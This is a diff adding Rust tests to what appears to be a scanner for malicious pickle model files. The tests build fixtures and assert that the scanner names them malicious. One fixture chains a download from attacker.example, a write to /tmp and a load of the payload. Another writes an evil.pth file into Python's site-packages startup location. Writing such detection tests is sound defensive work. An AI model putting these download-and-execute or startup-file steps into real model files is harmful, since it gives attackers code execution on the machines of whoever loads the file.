@@ -598,3 +598,62 @@ fn skops_files_from_the_real_writer_are_judged_by_the_global_policy() {
         }
     }
 }
+
+// ---- 10b. evidence adds up ----------------------------------------------------------------------
+
+#[test]
+fn three_suspicious_steps_that_form_rce_are_malicious_and_named() {
+    // Each call is an unreviewed member of a known library (medium alone).
+    let p = A::new()
+        .proto(2)
+        .call1(
+            "torch.utils.fetchers",
+            "fetch_blob",
+            "https://attacker.example/payload.bin",
+        )
+        .pop()
+        .call1("torch.utils.fetchers", "write_blob", "/tmp/payload.bin")
+        .pop()
+        .call1("torch.utils.fetchers", "load_blob", "/tmp/payload.bin")
+        .stop()
+        .finish();
+    let r = scan(&p);
+    assert_eq!(r.verdict.as_str(), "malicious", "{}", messages(&p));
+    let chain = r.findings.iter().find(|f| f.rule == "CHN102").expect("CHN102");
+    assert!(
+        chain.message.contains("download:")
+            && chain.message.contains("write:")
+            && chain.message.contains("load-or-execute:"),
+        "{}",
+        chain.message
+    );
+    // The same library calls without a download are only suspicious.
+    let p = A::new()
+        .proto(2)
+        .call1("torch.utils.fetchers", "describe_blob", "weights")
+        .stop()
+        .finish();
+    assert_eq!(verdict(&p), "suspicious", "{}", messages(&p));
+}
+
+#[test]
+fn a_write_into_a_startup_location_is_a_chain_and_a_model_named_pth_is_not() {
+    let p = A::new()
+        .proto(2)
+        .call1(
+            "torch.utils.cache",
+            "write_text_file",
+            "/usr/lib/python3/site-packages/evil.pth",
+        )
+        .stop()
+        .finish();
+    let r = scan(&p);
+    assert!(r.findings.iter().any(|f| f.rule == "CHN103"), "{}", messages(&p));
+    assert_eq!(r.verdict.as_str(), "malicious");
+    let p = A::new()
+        .proto(2)
+        .call1("torch.utils.cache", "describe", "model.pth")
+        .stop()
+        .finish();
+    assert!(!has(&p, "CHN103"), "{}", messages(&p));
+}
